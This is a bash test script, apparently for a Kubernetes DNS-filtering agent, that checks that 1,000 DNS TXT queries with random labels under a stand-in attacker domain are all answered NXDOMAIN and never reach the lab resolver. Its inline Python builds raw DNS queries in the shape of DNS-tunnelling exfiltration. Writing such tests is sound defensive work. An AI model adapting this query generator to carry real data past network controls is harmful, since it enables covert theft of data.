#!/usr/bin/env bash
# Exfiltration through DNS: 1,000 TXT queries with random 40-character labels under an attacker's
# domain, sent by the pod to its resolver, in strict mode. Every one is answered NXDOMAIN by the
# agent's DNS proxy and not one reaches the lab resolver (its query log is the server-side check).
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/lib_dns.sh"
require_protected client
resolver=$(lab_addr resolver)
domain=exfil.attacker-lab.example
n=1000
expected "$n random-label TXT queries under $domain from client (strict): $n NXDOMAIN;" \
  "lab resolver log +0 for $domain; dns_blocked{client} +$n"

set_dns_mode strict
since=$(dns_log_lines)
metric_mark tollgate_dns_blocked_total pod=default/client
t0=$(now_ms)
out=$(lab_exec client -- python3 -c '
import random, socket, string, struct, sys
resolver, n, domain = sys.argv[1], int(sys.argv[2]), sys.argv[3]
alphabet = string.ascii_lowercase + string.digits
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
rcodes = {}
for _ in range(n):
    label = "".join(random.choice(alphabet) for _ in range(40))
    name = b"".join(bytes([len(p)]) + p.encode() for p in (label + "." + domain).split("."))
    q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + name + b"\0" + \
        struct.pack("!HH", 16, 1)  # TXT IN
    s.sendto(q, (resolver, 53))
    rc = "timeout"
    try:
        while True:
            r = s.recv(4096)
            if r[:2] == q[:2]:
                rc = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}.get(r[3] & 15, str(r[3] & 15))
                break
    except socket.timeout:
        pass
    rcodes[rc] = rcodes.get(rc, 0) + 1
print(" ".join(f"{k}={v}" for k, v in sorted(rcodes.items())))
' "$resolver" "$n" "$domain" 2>&1)
ms=$(($(now_ms) - t0))
observe "answers: $out in $ms ms"
[[ $out == "NXDOMAIN=$n" ]] || fail "want NXDOMAIN=$n, got: $(tail -c 300 <<<"$out")"
reached=$(dns_log_count "$since" "$domain")
observe "resolver log +$reached for $domain"
((reached == 0)) || fail "$reached queries under $domain reached the lab resolver"
expect_metric_increase "$n" tollgate_dns_blocked_total pod=default/client
finish
